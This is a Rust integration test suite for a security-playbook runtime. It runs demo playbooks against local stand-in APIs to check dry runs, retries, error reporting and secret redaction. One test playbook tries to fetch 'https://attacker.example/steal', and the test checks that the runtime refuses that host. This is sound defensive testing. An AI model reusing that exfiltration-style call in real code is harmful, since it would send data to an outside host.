//! Runs through the real runtime and the real HTTP layer against loopback stand-ins that check
//! credentials: every demo playbook, dry and real; alerts fetched from Graph with comments and
//! updates sent back; misbehaving APIs; bad input; the record's trace, tracebacks and redaction.

mod run_support;

use std::sync::Arc;
use std::time::Duration;

use riposte_runtime::record::{Outcome, TraceNode};
use riposte_runtime::secrets::EnvSecrets;
use riposte_runtime::{AlertInput, IntegrationsSender, RunError, Status};
use run_support::*;
use serde_json::json;

const PHISHING_ID: &str = "fa6c1d9f5e-2b7a-4c3e-9d84-1f0a6b2c7e95";

async fn demo() -> (DemoWorkspace, Apis) {
    let apis = Apis::start(vec![internal_phishing_alert()]).await;
    let ws = DemoWorkspace::new();
    ws.point_all(&apis);
    (ws, apis)
}

fn sent(record: &riposte_runtime::RunRecord) -> Vec<String> {
    record
        .requests
        .iter()
        .filter(|r| r.outcome == Outcome::Sent)
        .map(|r| format!("{} {}", r.method, r.url))
        .collect()
}

fn planned(record: &riposte_runtime::RunRecord) -> Vec<String> {
    record
        .requests
        .iter()
        .filter(|r| r.outcome == Outcome::Planned)
        .map(|r| format!("{} {}", r.method, r.url))
        .collect()
}

// --- the demo playbooks -------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn vt_url_enrichment_real_and_dry() {
    let (ws, apis) = demo().await;
    for dry in [true, false] {
        let mut run = Run::new(
            ws.root(),
            ws.playbook("vt-url-enrichment.py"),
            alert_file("graph-phishing-url.json"),
        );
        if dry {
            run = run.dry();
        }
        let record = run.record().await;
        assert_eq!(record.status, Status::Succeeded, "{}", summary(&record));
        assert_eq!(record.result, json!({"urls": 1}));
        // A read is sent in a dry run too.
        assert_eq!(sent(&record).len(), 1, "{:?}", sent(&record));
        assert!(planned(&record).is_empty());
        assert_eq!(record.comments.len(), 1);
        assert_eq!(record.comments[0].outcome, Outcome::Recorded);
        assert!(
            record.comments[0]
                .text
                .contains("login.contoso-payroll.example/verify?session=8842&user=adele.vance: 7 malicious, 2 suspicious"),
            "{}",
            record.comments[0].text
        );
        assert_no_secret(&record);
    }
    let received = apis.virustotal.received();
    assert_eq!(received.len(), 2);
    for got in received {
        assert_eq!(got.method, "GET");
        assert_eq!(
            got.path,
            "/api/v3/urls/aHR0cHM6Ly9sb2dpbi5jb250b3NvLXBheXJvbGwuZXhhbXBsZS92ZXJpZnk_c2Vzc2lvbj04ODQyJnVzZXI9YWRlbGUudmFuY2U"
        );
        assert_eq!(got.header("x-apikey"), Some(secrets::VT_API_KEY));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn jira_issue_dry_run_plans_the_post_then_the_real_run_sends_it() {
    let (ws, apis) = demo().await;
    let alert = alert_file("graph-malware-device.json");

    let dry = Run::new(ws.root(), ws.playbook("jira-issue.py"), alert.clone())
        .dry()
        .record()
        .await;
    assert_eq!(dry.status, Status::Succeeded, "{}", summary(&dry));
    assert!(
        apis.jira.received().is_empty(),
        "a dry run sent {:?}",
        apis.jira.lines()
    );
    assert_eq!(
        planned(&dry),
        vec![format!("POST {}/rest/api/3/issue", apis.jira.url)]
    );
    // The stand-in answer lets the playbook carry on; what it could not know reads as such.
    assert_eq!(dry.result, json!({"issue": "<dry run: json()['key']>"}));
    let planned_changes: Vec<_> = dry
        .planned_changes()
        .map(|c| c.description.clone())
        .collect();
    assert_eq!(
        planned_changes,
        vec![format!("POST {}/rest/api/3/issue (Jira)", apis.jira.url)]
    );
    let text = riposte_runtime::report::render_text(&dry);
    assert!(
        text.contains("Changes the real run would make\n  POST "),
        "{text}"
    );

    let real = Run::new(ws.root(), ws.playbook("jira-issue.py"), alert)
        .record()
        .await;
    assert_eq!(real.status, Status::Succeeded, "{}", summary(&real));
    assert_eq!(real.result, json!({"issue": "SOC-42"}));
    let received = apis.jira.received();
    assert_eq!(received.len(), 1);
    let issue = received[0].json();
    assert_eq!(issue["fields"]["project"]["key"], "SOC");
    assert_eq!(issue["fields"]["priority"]["name"], "Highest");
    assert_eq!(
        received[0]
            .header("authorization")
            .map(|h| h.starts_with("Basic ")),
        Some(true)
    );
    assert_eq!(real.comments[0].text, "Jira issue SOC-42 created.");
    assert_no_secret(&dry);
    assert_no_secret(&real);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn jira_issue_retries_once_on_a_server_error() {
    let apis = Apis::start(Vec::new()).await;
    let jira = StandIn::start(jira(true)).await;
    let ws = DemoWorkspace::new();
    ws.point_all(&apis).point("jira.toml", &jira.url, None);
    let record = Run::new(
        ws.root(),
        ws.playbook("jira-issue.py"),
        alert_file("graph-phishing-url.json"),
    )
    .record()
    .await;
    assert_eq!(record.status, Status::Succeeded, "{}", summary(&record));
    assert_eq!(jira.received().len(), 2);
    assert_eq!(
        record.logs[0].message,
        "Jira answered with a server error; retrying once"
    );
    assert_eq!(record.logs[0].fields["status"], json!(503));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn servicenow_ticket_real_and_dry() {
    let (ws, apis) = demo().await;
    let alert = alert_file("sentinel-securityalert-bruteforce.json");
    let dry = Run::new(
        ws.root(),
        ws.playbook("servicenow-ticket.py"),
        alert.clone(),
    )
    .dry()
    .record()
    .await;
    assert_eq!(dry.status, Status::Succeeded, "{}", summary(&dry));
    assert!(apis.servicenow.received().is_empty());
    assert_eq!(planned(&dry).len(), 1);

    let real = Run::new(ws.root(), ws.playbook("servicenow-ticket.py"), alert)
        .record()
        .await;
    assert_eq!(real.status, Status::Succeeded, "{}", summary(&real));
    assert_eq!(real.result, json!({"ticket": "INC0010042"}));
    let received = apis.servicenow.received();
    assert_eq!(received.len(), 1);
    let body = received[0].json();
    assert_eq!(body["urgency"], "1");
    assert_eq!(body["category"], "security");
    assert!(
        body["short_description"]
            .as_str()
            .unwrap()
            .starts_with("[HIGH] ")
    );
    assert_no_secret(&real);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn aws_iam_block_user_real_and_dry() {
    let (ws, apis) = demo().await;
    let alert = alert_file("graph-aws-iam-suspicious.json");
    let dry = Run::new(
        ws.root(),
        ws.playbook("aws-iam-block-user.py"),
        alert.clone(),
    )
    .dry()
    .record()
    .await;
    assert_eq!(dry.status, Status::Succeeded, "{}", summary(&dry));
    // Only the read (ListAccessKeys, a GET) reached AWS; every write was planned.
    let actions: Vec<_> = apis
        .aws
        .received()
        .iter()
        .map(|r| r.param("Action").unwrap_or_default())
        .collect();
    assert_eq!(actions, vec!["ListAccessKeys"]);
    assert_eq!(planned(&dry).len(), 4, "{:?}", planned(&dry));
    assert_eq!(dry.result, json!({"blocked": ["svc-ci-deploy"]}));

    let real = Run::new(ws.root(), ws.playbook("aws-iam-block-user.py"), alert)
        .record()
        .await;
    assert_eq!(real.status, Status::Succeeded, "{}", summary(&real));
    let actions: Vec<_> = apis
        .aws
        .received()
        .iter()
        .skip(1)
        .map(|r| format!("{} {}", r.method, r.param("Action").unwrap_or_default()))
        .collect();
    assert_eq!(
        actions,
        vec![
            "POST AttachUserPolicy",
            "POST DeleteLoginProfile",
            "GET ListAccessKeys",
            "POST UpdateAccessKey",
            "POST UpdateAccessKey"
        ]
    );
    for got in apis.aws.received() {
        assert!(
            got.header("authorization")
                .unwrap()
                .starts_with("AWS4-HMAC-SHA256 Credential=AKIAS3NTINEL0EXAMPLE/")
        );
    }
    assert_eq!(real.updates.len(), 1);
    assert_eq!(real.updates[0].fields["status"], "inProgress");
    assert_eq!(
        real.updates[0].fields["assigned_to"],
        "soc-tier2@contoso.com"
    );
    assert_no_secret(&real);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn phishing_sender_disable_on_a_graph_alert_real_and_dry() {
    let (ws, apis) = demo().await;
    let graph_alert = || AlertInput::Graph {
        profile: None,
        id: PHISHING_ID.to_string(),
    };

    let dry = Run::new(
        ws.root(),
        ws.playbook("phishing-sender-disable.py"),
        graph_alert(),
    )
    .dry()
    .record()
    .await;
    assert_eq!(dry.status, Status::Succeeded, "{}", summary(&dry));
    assert_eq!(dry.alert.source, "graph Microsoft Graph");
    assert_eq!(dry.alert.id, PHISHING_ID);
    let graph_lines: Vec<_> = apis
        .graph
        .lines()
        .into_iter()
        .filter(|l| !l.ends_with("/token"))
        .collect();
    assert_eq!(
        graph_lines,
        vec![
            format!("GET /v1.0/security/alerts_v2/{PHISHING_ID}"),
            "GET /v1.0/users/megan.bowen@contoso.com".to_string(),
        ]
    );
    assert!(apis.slack.received().is_empty());
    let changes: Vec<_> = dry.planned_changes().map(|c| c.kind).collect();
    assert_eq!(changes, vec!["request", "request", "request", "comment"]);
    assert_eq!(dry.comments[0].outcome, Outcome::Planned);
    assert_eq!(dry.comments[0].target, "graph Microsoft Graph");

    let real = Run::new(
        ws.root(),
        ws.playbook("phishing-sender-disable.py"),
        graph_alert(),
    )
    .record()
    .await;
    assert_eq!(real.status, Status::Succeeded, "{}", summary(&real));
    assert_eq!(
        real.result,
        json!({"disabled": ["megan.bowen@contoso.com"]})
    );
    let graph_lines: Vec<_> = apis
        .graph
        .lines()
        .into_iter()
        .filter(|l| !l.ends_with("/token"))
        .skip(2)
        .collect();
    assert_eq!(
        graph_lines,
        vec![
            format!("GET /v1.0/security/alerts_v2/{PHISHING_ID}"),
            "GET /v1.0/users/megan.bowen@contoso.com".to_string(),
            "PATCH /v1.0/users/id-megan.bowen".to_string(),
            "POST /v1.0/users/id-megan.bowen/revokeSignInSessions".to_string(),
            format!("POST /v1.0/security/alerts_v2/{PHISHING_ID}/comments"),
        ]
    );
    let comment = apis.graph.received().last().unwrap().json();
    assert_eq!(
        comment["comment"],
        format!(
            "Phishing alert {PHISHING_ID}: disabled megan.bowen@contoso.com and revoked their sessions."
        )
    );
    let slack = apis.slack.received();
    assert_eq!(slack.len(), 1);
    assert_eq!(slack[0].json()["channel"], "#soc-alerts");
    assert_eq!(real.comments[0].outcome, Outcome::Sent);
    for got in apis
        .graph
        .received()
        .iter()
        .filter(|g| !g.path.ends_with("/token"))
    {
        assert_eq!(
            got.header("authorization"),
            Some(format!("Bearer {}", secrets::GRAPH_TOKEN).as_str())
        );
    }
    assert_no_secret(&dry);
    assert_no_secret(&real);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn alert_updates_go_back_to_graph() {
    let (ws, apis) = demo().await;
    let playbook = ws.add_playbook(
        "triage.py",
        r##""""Triage."""
from riposte import Alert, Context


def run(alert: Alert, ctx: Context) -> None:
    ctx.update_alert(status="inProgress", assigned_to="tier2@contoso.com", classification="truePositive")
"##,
    );
    let record = Run::new(
        ws.root(),
        playbook,
        AlertInput::Graph {
            profile: Some("Microsoft Graph".into()),
            id: PHISHING_ID.into(),
        },
    )
    .record()
    .await;
    assert_eq!(record.status, Status::Succeeded, "{}", summary(&record));
    let patch = apis.graph.received().last().unwrap().clone();
    assert_eq!(
        patch.line(),
        format!("PATCH /v1.0/security/alerts_v2/{PHISHING_ID}")
    );
    assert_eq!(
        patch.json(),
        json!({"status": "inProgress", "assignedTo": "tier2@contoso.com", "classification": "truePositive"})
    );
    assert_eq!(record.updates[0].outcome, Outcome::Sent);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_graph_alert_that_does_not_exist_is_an_input_error() {
    let (ws, _apis) = demo().await;
    let err = Run::new(
        ws.root(),
        ws.playbook("vt-url-enrichment.py"),
        AlertInput::Graph {
            profile: None,
            id: "missing-alert".into(),
        },
    )
    .go()
    .await
    .unwrap_err();
    let RunError::Alert(message) = err else {
        panic!("{err:?}")
    };
    assert!(
        message.contains("answered HTTP 404: alert missing-alert not found"),
        "{message}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_read_sent_with_post_is_sent_in_a_dry_run() {
    let (ws, apis) = demo().await;
    let playbook = ws.add_playbook(
        "channels.py",
        r##""""List channels (a read, sent with POST) and post (a write)."""
from riposte import Alert, Context


def run(alert: Alert, ctx: Context) -> None:
    slack = ctx.integration("Slack")
    slack.post("/conversations.list", json={"limit": 10})
    slack.post("/chat.postMessage", json={"channel": "#soc", "text": "hi"})
"##,
    );
    let record = Run::new(ws.root(), playbook, alert_file("graph-phishing-url.json"))
        .dry()
        .record()
        .await;
    assert_eq!(record.status, Status::Succeeded, "{}", summary(&record));
    assert_eq!(apis.slack.lines(), vec!["POST /api/conversations.list"]);
    assert_eq!(record.requests[0].outcome, Outcome::Sent);
    assert!(!record.requests[0].mutating);
    assert_eq!(record.requests[1].outcome, Outcome::Planned);
    assert!(record.requests[1].mutating);
}

// --- misbehaving APIs ---------------------------------------------------------------------------

async fn misbehaving_run(source: &str) -> riposte_runtime::RunRecord {
    let standin = StandIn::start(misbehaving()).await;
    let ws = DemoWorkspace::new();
    ws.add_standin_profile(&standin.url);
    let playbook = ws.add_playbook("misbehaving.py", source);
    let record = Run::new(ws.root(), playbook, alert_file("graph-phishing-url.json"))
        .record()
        .await;
    assert_no_secret(&record);
    record
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hanging_api_times_out_the_request() {
    let record = misbehaving_run(
        r##""""Call an API that hangs."""
from riposte import Alert, Context


def run(alert: Alert, ctx: Context) -> None:
    ctx.integration("Stand-in").get("/hang", timeout=1)
"##,
    )
    .await;
    assert_eq!(record.status, Status::Failed, "{}", summary(&record));
    let error = record.error.as_ref().unwrap();
    assert_eq!(error.type_name, "riposte.IntegrationError");
    assert!(
        error.message.contains("no complete answer within 1.0 s"),
        "{}",
        error.message
    );
    assert_eq!(record.requests[0].outcome, Outcome::Failed);
    assert!(record.duration_ms < 10_000.0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_500_raises_http_error_at_the_playbook_line() {
    let record = misbehaving_run(
        r##""""Call an API that fails."""
from riposte import Alert, Context


def run(alert: Alert, ctx: Context) -> None:
    response = ctx.integration("Stand-in").get("/status/500")
    response.raise_for_status()
"##,
    )
    .await;
    assert_eq!(record.status, Status::Failed, "{}", summary(&record));
    let error = record.error.as_ref().unwrap();
    assert_eq!(error.type_name, "riposte.HTTPError");
    assert!(
        error
            .message
            .starts_with("HTTP 500 (server error) for http://127.0.0.1:")
    );
    let at = error.traceback.iter().find(|f| f.in_playbook).unwrap();
    assert_eq!(
        (at.line, at.code.as_str()),
        (7, "response.raise_for_status()")
    );
    assert_eq!(record.requests[0].status, Some(500));
    assert!(
        error
            .text
            .contains("File \"playbooks/misbehaving.py\", line 7, in run"),
        "{}",
        error.text
    );
    assert!(
        error.text.contains("File \"riposte/__init__.py\""),
        "{}",
        error.text
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn invalid_json_raises_value_error_at_the_playbook_line() {
    let record = misbehaving_run(
        r##""""Call an API that answers broken JSON."""
from riposte import Alert, Context


def run(alert: Alert, ctx: Context) -> dict:
    response = ctx.integration("Stand-in").get("/invalid-json")
    return response.json()
"##,
    )
    .await;
    assert_eq!(record.status, Status::Failed, "{}", summary(&record));
    let error = record.error.as_ref().unwrap();
    assert_eq!(error.type_name, "json.decoder.JSONDecodeError");
    let at = error.traceback.iter().find(|f| f.in_playbook).unwrap();
    assert_eq!((at.line, at.code.as_str()), (7, "return response.json()"));
    assert!(
        record
            .message
            .as_deref()
            .unwrap()
            .ends_with("(line 7 of the playbook)"),
        "{}",
        summary(&record)
    );
    // The playbook can catch it as the ValueError the SDK documents.
    let caught = misbehaving_run(
        r##""""Catch broken JSON."""
from riposte import Alert, Context


def run(alert: Alert, ctx: Context) -> str:
    try:
        return ctx.integration("Stand-in").get("/invalid-json").json()
    except ValueError:
        return "not json"
"##,
    )
    .await;
    assert_eq!(caught.result, json!("not json"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn foreign_hosts_and_unknown_profiles_raise_integration_error() {
    let record = misbehaving_run(
        r##""""Try to reach elsewhere."""
from riposte import Alert, Context, IntegrationError


def run(alert: Alert, ctx: Context) -> list:
    problems = []
    try:
        ctx.integration("Stand-in").get("".join(["https://", "attacker.example", "/steal"]))
    except IntegrationError as error:
        problems.append(str(error))
    try:
        ctx.integration("".join(["No", "pe"]))
    except IntegrationError as error:
        problems.append(str(error))
    return problems
"##,
    )
    .await;
    assert_eq!(record.status, Status::Succeeded, "{}", summary(&record));
    let problems = record.result.as_array().unwrap();
    assert!(
        problems[0]
            .as_str()
            .unwrap()
            .contains("refused `https://attacker.example/steal`")
    );
    assert!(
        problems[1]
            .as_str()
            .unwrap()
            .contains("no integration profile is named 'Nope'")
    );
}

// --- input errors -------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_secret_names_the_profile_and_the_field() {
    let (ws, apis) = demo().await;
    let loaded = riposte_workspace::load(ws.root()).unwrap();
    let env: Vec<_> = secrets::env()
        .into_iter()
        .filter(|(k, _)| k != "RIPOSTE_VIRUSTOTAL_API_KEY")
        .collect();
    let sender =
        IntegrationsSender::from_workspace(&loaded.workspace, Arc::new(EnvSecrets::from_vars(env)))
            .unwrap();
    let err = Run::new(
        ws.root(),
        ws.playbook("vt-url-enrichment.py"),
        alert_file("graph-phishing-url.json"),
    )
    .sender(Arc::new(sender))
    .go()
    .await
    .unwrap_err();
    let RunError::Secret(message) = err else {
        panic!("{err:?}")
    };
    assert!(message.contains("`VirusTotal`"), "{message}");
    assert!(message.contains("`api_key`"), "{message}");
    assert!(message.contains("RIPOSTE_VIRUSTOTAL_API_KEY"), "{message}");
    assert!(apis.virustotal.received().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn alerts_that_are_not_json_or_neither_shape_are_input_errors() {
    let ws = DemoWorkspace::new();
    for (text, expected) in [
        ("this is not json", "is not valid JSON"),
        ("{\"hello\": \"world\"}", "not a recognised alert"),
        ("[1, 2]", "got an array of 2"),
    ] {
        let err = Run::new(
            ws.root(),
            ws.playbook("vt-url-enrichment.py"),
            AlertInput::Json {
                text: text.into(),
                label: "alert.json".into(),
            },
        )
        .go()
        .await
        .unwrap_err();
        let RunError::Alert(message) = err else {
            panic!("{err:?}")
        };
        assert!(message.starts_with("alert.json: "), "{message}");
        assert!(message.contains(expected), "{message}");
    }
}

// --- what the record keeps ----------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_trace_nests_steps_logs_and_comments() {
    let ws = DemoWorkspace::new();
    let playbook = ws.add_playbook(
        "traced.py",
        r##""""Trace."""
from riposte import Alert, Context


def run(alert: Alert, ctx: Context) -> dict:
    ctx.log("start", dry=ctx.dry_run, kinds=sorted({e.kind for e in alert.entities()}))
    with ctx.step("Outer"):
        with ctx.step("Inner"):
            ctx.comment("inside")
        try:
            with ctx.step("Failing"):
                raise KeyError("x")
        except KeyError:
            ctx.log("caught")
    return {"deadline": 0 < ctx.deadline <= 20, "dry_run": ctx.dry_run}
"##,
    );
    let record = Run::new(ws.root(), playbook, alert_file("graph-phishing-url.json"))
        .dry()
        .record()
        .await;
    assert_eq!(record.status, Status::Succeeded, "{}", summary(&record));
    assert_eq!(record.result, json!({"deadline": true, "dry_run": true}));
    assert_eq!(
        record.logs[0].fields["kinds"],
        json!(["ip", "mailbox", "url", "user"])
    );
    let TraceNode::Step(outer) = &record.trace[1] else {
        panic!("{:?}", record.trace)
    };
    assert_eq!(outer.name, "Outer");
    let names: Vec<_> = outer
        .children
        .iter()
        .map(|c| match c {
            TraceNode::Step(s) => format!("step {} {:?}", s.name, s.error),
            TraceNode::Log { index, label } => format!("log {index} {label}"),
            other => format!("{other:?}"),
        })
        .collect();
    assert_eq!(
        names,
        vec![
            "step Inner None",
            "step Failing Some(\"KeyError\")",
            "log 1 log: caught"
        ]
    );
    let TraceNode::Step(inner) = &outer.children[0] else {
        panic!()
    };
    assert_eq!(
        inner.children,
        vec![TraceNode::Comment {
            index: 0,
            label: "comment: \"inside\"".into()
        }]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cancelled_run_is_killed() {
    let ws = DemoWorkspace::new();
    let playbook = repo_root().join("fixtures/playbooks/hostile/infinite-loop.py");
    let loaded = riposte_workspace::load(ws.root()).unwrap();
    let cancel = riposte_runtime::Cancel::new();
    let handle = cancel.clone();
    tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(500)).await;
        handle.cancel();
    });
    let record = riposte_runtime::run_playbook(riposte_runtime::RunRequest {
        playbook,
        source: None,
        display_path: None,
        workspace: Arc::new(loaded),
        alert: alert_file("graph-phishing-url.json"),
        dry_run: true,
        timeout: Some(Duration::from_secs(30)),
        sender: Arc::new(riposte_runtime::NoNetwork),
        progress: None,
        cancel: Some(cancel),
    })
    .await
    .unwrap();
    assert_eq!(record.status, Status::Killed, "{}", summary(&record));
    assert!(record.message.as_deref().unwrap().contains("cancelled"));
    assert!(record.duration_ms < 10_000.0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unsaved_source_runs_and_tracebacks_name_the_file() {
    let ws = DemoWorkspace::new();
    let loaded = riposte_workspace::load(ws.root()).unwrap();
    let record = riposte_runtime::run_playbook(riposte_runtime::RunRequest {
        playbook: ws.playbook("vt-url-enrichment.py"),
        source: Some(
            "\"\"\"Edited.\"\"\"\nfrom riposte import Alert, Context\n\n\ndef run(alert: Alert, ctx: Context) -> None:\n    helper()\n\n\ndef helper() -> None:\n    raise RuntimeError(\"edited in the editor\")\n".into(),
        ),
        display_path: None,
        workspace: Arc::new(loaded),
        alert: alert_file("graph-phishing-url.json"),
        dry_run: true,
        timeout: None,
        sender: Arc::new(riposte_runtime::NoNetwork),
        progress: None,
        cancel: None,
    })
    .await
    .unwrap();
    assert_eq!(record.status, Status::Failed);
    assert_eq!(record.playbook, "playbooks/vt-url-enrichment.py");
    let lines: Vec<_> = record
        .error
        .as_ref()
        .unwrap()
        .traceback
        .iter()
        .map(|f| (f.line, f.function.as_str()))
        .collect();
    assert_eq!(lines, vec![(6, "run"), (10, "helper")]);
    assert_eq!(record.limits.timeout_secs, 600.0);
}
